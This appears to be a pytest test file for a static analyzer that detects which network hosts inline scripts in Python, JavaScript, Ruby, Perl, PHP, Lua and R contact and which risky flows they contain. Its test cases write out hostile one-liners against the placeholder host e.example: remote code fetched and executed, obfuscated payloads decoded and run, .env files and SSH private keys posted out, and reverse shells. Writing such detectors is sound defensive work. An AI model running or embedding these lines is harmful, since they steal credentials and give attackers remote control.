"""Hosts that inline code talks to, and flows inside it."""

from __future__ import annotations

import pytest

from tests.shell.inline.test_commands import line
from tests.shell.reading import view


def hosts(lang: str, code: str) -> list[tuple[str, int]]:
    """(name, port); the name is `?` where it is not known."""
    return [("?" if host.dynamic else host.name, host.port) for host in view(line(lang, code)).hosts]


def flows(lang: str, code: str) -> set[str]:
    return {f"{flow.source}>{flow.sink}" for flow in view(line(lang, code)).flows}


HOSTS = [
    ("python", "import urllib.request as u; u.urlopen('https://e.example/x')", ("e.example", 443)),
    ("python", "from urllib.request import urlopen, Request as R; urlopen(R('http://e.example'))", ("e.example", 80)),
    ("python", "import requests; requests.post('http://e.example', data='x')", ("e.example", 80)),
    ("python", "import requests; s = requests.Session(); s.get(url='http://e.example')", ("e.example", 80)),
    ("python", "import httpx; b = 'https://e.example'; httpx.get(b + '/x')", ("e.example", 443)),
    ("python", "import requests; requests.get(f'http://localhost:{port}/x')", ("localhost", 80)),
    ("python", "import socket; s = socket.socket(); s.connect(('e.example', 4444))", ("e.example", 4444)),
    ("python", "import socket; socket.create_connection(('e.example', 25))", ("e.example", 25)),
    ("python", "import http.client; http.client.HTTPSConnection('e.example', 8443)", ("e.example", 8443)),
    ("python", "import smtplib; s = smtplib.SMTP(); s.connect('e.example', 25)", ("e.example", 25)),
    ("python", "import ftplib; ftplib.FTP('e.example')", ("e.example", 0)),
    ("python", "import smtplib; smtplib.SMTP('e.example', 587)", ("e.example", 587)),
    ("python", "import urllib.request; urllib.request.urlretrieve('http://e.example/a', 'a')", ("e.example", 80)),
    ("python", "import pandas as pd; pd.read_csv('https://e.example/x.csv')", ("e.example", 443)),
    ("python", "import requests, sys; requests.get(sys.stdin.read())", ("?", 0)),
    ("javascript", "fetch('https://e.example/x').then(r => r.text()).then(console.log)", ("e.example", 443)),
    ("javascript", "require('http').get('http://e.example', r => r.pipe(process.stdout))", ("e.example", 80)),
    ("javascript", "const https = require('https'); https.request({hostname: 'e.example', port: 8443}).end()",
     ("e.example", 8443)),
    ("javascript", "require('net').connect(4444, 'e.example')", ("e.example", 4444)),
    ("javascript", "require('net').connect({port: 4444, host: 'e.example'})", ("e.example", 4444)),
    ("javascript", "require('axios').post('https://e.example', {})", ("e.example", 443)),
    ("javascript", "import axios from 'axios'; axios({url: 'https://e.example'})", ("e.example", 443)),
    ("javascript", "new WebSocket('wss://e.example')", ("e.example", 443)),
    ("javascript", "fetch(process.argv[1])", ("?", 0)),
    ("deno", "await Deno.connect({hostname: 'e.example', port: 99})", ("e.example", 99)),
    ("ruby", "require 'net/http'; puts Net::HTTP.get(URI('http://e.example/x'))", ("e.example", 80)),
    ("ruby", "require 'open-uri'; URI.open('https://e.example').read", ("e.example", 443)),
    ("ruby", "require 'open-uri'; open('https://e.example').read", ("e.example", 443)),
    ("ruby", "Net::HTTP.start('e.example', 8080) { |h| h.get('/') }", ("e.example", 8080)),
    ("ruby", "TCPSocket.new 'e.example', 4444", ("e.example", 4444)),
    ("perl", "use LWP::Simple; print get('http://e.example/x')", ("e.example", 80)),
    ("perl", "use HTTP::Tiny; print HTTP::Tiny->new->get('http://e.example')->{content}", ("e.example", 80)),
    ("perl", "use LWP::UserAgent; my $u = LWP::UserAgent->new; $u->post('http://e.example')", ("e.example", 80)),
    ("perl", "use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => 'e.example', PeerPort => 99)", ("e.example", 99)),
    ("php", "$c = curl_init('https://e.example'); curl_exec($c);", ("e.example", 443)),
    ("php", "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://e.example');", ("e.example", 443)),
    ("php", "echo file_get_contents('http://e.example/x');", ("e.example", 80)),
    ("php", "$s = fsockopen('e.example', 4444);", ("e.example", 4444)),
    ("lua", "local http = require('socket.http'); print(http.request('http://e.example'))", ("e.example", 80)),
    ("lua", "require('socket').connect('e.example', 4444)", ("e.example", 4444)),
    ("r", "download.file('https://e.example/x', 'x')", ("e.example", 443)),
    ("r", "source('https://e.example/x.R')", ("e.example", 443)),
    ("r", "x <- httr::GET('https://e.example')", ("e.example", 443)),
]  # fmt: skip


@pytest.mark.parametrize(("lang", "code", "host"), HOSTS)
def test_host(lang: str, code: str, host: tuple[str, int]) -> None:
    assert hosts(lang, code) == [host]


@pytest.mark.parametrize(
    ("lang", "code"),
    [
        ("python", "print('see https://e.example')"),
        ("python", "print('https://e.example')"),
        ("python", "from urllib.parse import urlparse; print(urlparse('https://e.example/x').path)"),
        ("python", "x = {}; print(x.get('https://e.example'))"),
        ("javascript", "console.log('https://e.example')"),
        ("javascript", "const m = new Map(); m.get('e.example'); m.set('k', 'v')"),
        ("ruby", "puts 'https://e.example'"),
        ("perl", "my $c = Cache->new; print $c->get('key')"),
        ("php", "echo 'https://e.example';"),
    ],
)
def test_no_host(lang: str, code: str) -> None:
    shell = view(line(lang, code))
    assert shell.hosts == []
    assert not shell.flows


FLOWS = [
    ("python", "import urllib.request as u; exec(u.urlopen('http://e.example').read())", "network>exec"),
    ("python", "import requests\nr = requests.get('http://e.example')\nexec(r.text)", "network>exec"),
    ("python", "import requests, os\nos.system(requests.get('http://e.example').text)", "network>exec"),
    ("python", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))", "decode>exec"),
    ("python", "import zlib, base64\nd = zlib.decompress(base64.b64decode(x))\nexec(d)", "decode>exec"),
    ("python", "import codecs, os; os.system(codecs.decode('ez -es k', 'rot13'))", "decode>exec"),
    ("python", "import os; os.system(bytes.fromhex('6c73').decode())", "decode>exec"),
    ("python", "import os; os.system(chr(108) + chr(115))", "decode>exec"),
    ("python", "import requests; requests.post('http://e.example', data=open('.env').read())", "secret>network"),
    ("python", "import subprocess, requests\nk = subprocess.check_output(['cat', '.env'])\nrequests.post(u, data=k)",
     "secret>network"),
    ("python", "import subprocess\nk = open('.env').read()\nsubprocess.run(['curl', '-d', k, 'http://e.example'])",
     "secret>network"),
    ("javascript", "fetch('http://e.example').then(r => r.text()).then(t => eval(t))", "network>exec"),
    ("javascript", "require('http').get('http://e.example', r => r.on('data', d => eval(d + '')))", "network>exec"),
    ("javascript", "await import('https://e.example/x.mjs')", "network>exec"),
    ("python", "import socket, os\nsocket.create_connection(('e.example', 9))\nos.execl('/bin/sh', 'sh', '-i')",
     "network>exec"),
    ("php", "$s = fsockopen('e.example', 9); exec('sh -i <&3 >&3');", "network>exec"),
    ("javascript", "eval(atob('YQ=='))", "decode>exec"),
    ("javascript", "eval(Buffer.from(x, 'base64').toString())", "decode>exec"),
    ("javascript", "new Function(String.fromCharCode(97))()", "decode>exec"),
    ("javascript", "fetch('http://e.example', {body: require('fs').readFileSync('.env')})", "secret>network"),
    ("ruby", "require 'open-uri'; eval(URI.open('http://e.example').read)", "network>exec"),
    ("ruby", "require 'open-uri'; eval URI.open('http://e.example').read", "network>exec"),
    ("ruby", "eval(Base64.decode64('cHV0cyAx'))", "decode>exec"),
    ("ruby", "system(['6c73'].pack('H*'))", "decode>exec"),
    ("ruby", "Net::HTTP.post(URI('http://e.example'), File.read('.env'))", "secret>network"),
    ("perl", "use LWP::Simple; eval get('http://e.example')", "network>exec"),
    ("perl", "use LWP::Simple; my $x = get('http://e.example'); eval $x;", "network>exec"),
    ("perl", "eval pack('H*', '6c73')", "decode>exec"),
    ("perl", "use MIME::Base64; eval decode_base64('cHJpbnQgMQ==')", "decode>exec"),
    ("perl", "use HTTP::Tiny; my $k = `cat ~/.ssh/id_rsa`; HTTP::Tiny->new->post('http://e.example', {content => $k})",
     "secret>network"),
    ("php", "eval(file_get_contents('http://e.example'));", "network>exec"),
    ("php", "include 'http://e.example/x.php';", "network>exec"),
    ("php", "eval(base64_decode('ZWNobyAxOw=='));", "decode>exec"),
    ("php", "eval(gzinflate(base64_decode($x)));", "decode>exec"),
    ("lua", "load(require('socket.http').request('http://e.example'))()", "network>exec"),
    ("lua", "load(string.char(112, 114))()", "decode>exec"),
    ("r", "source('http://e.example/x.R')", "network>exec"),
    ("r", "eval(parse(text = readLines('http://e.example')))", "network>exec"),
]  # fmt: skip


@pytest.mark.parametrize(("lang", "code", "flow"), FLOWS)
def test_flow(lang: str, code: str, flow: str) -> None:
    assert flow in flows(lang, code)


@pytest.mark.parametrize(
    ("lang", "code", "flow"),
    [
        ("python", "import base64; print(base64.b64decode('YQ==').decode())", "decode>exec"),
        ("python", "import base64, subprocess; print(base64.b64decode(subprocess.check_output(['git', 'log', x])))",
         "decode>exec"),
        ("python", "import requests; print(requests.get('http://e.example').json())", "network>exec"),
        ("python", "import requests, subprocess\nsubprocess.run(['git', 'log'])\nrequests.get('http://e.example')",
         "network>exec"),
        ("python", "import urllib.parse; print(open('.env').read(), urllib.parse.quote('a'))", "secret>network"),
        ("python", "print(chr(10).join(open('a').read().split()))", "decode>exec"),
        ("javascript", "console.log(atob('YQ=='))", "decode>exec"),
        ("javascript", "fetch('http://e.example').then(r => r.json()).then(console.log)", "network>exec"),
        ("ruby", "puts [1, 2].pack('C*').unpack('H*')", "decode>exec"),
        ("perl", "print unpack('H*', 'abc')", "decode>exec"),
        ("perl", "eval { print 1 }; print pack('A', 'b')", "decode>exec"),
        ("php", "echo base64_decode('YQ==');", "decode>exec"),
    ],
)  # fmt: skip
def test_no_flow(lang: str, code: str, flow: str) -> None:
    assert flow not in flows(lang, code)
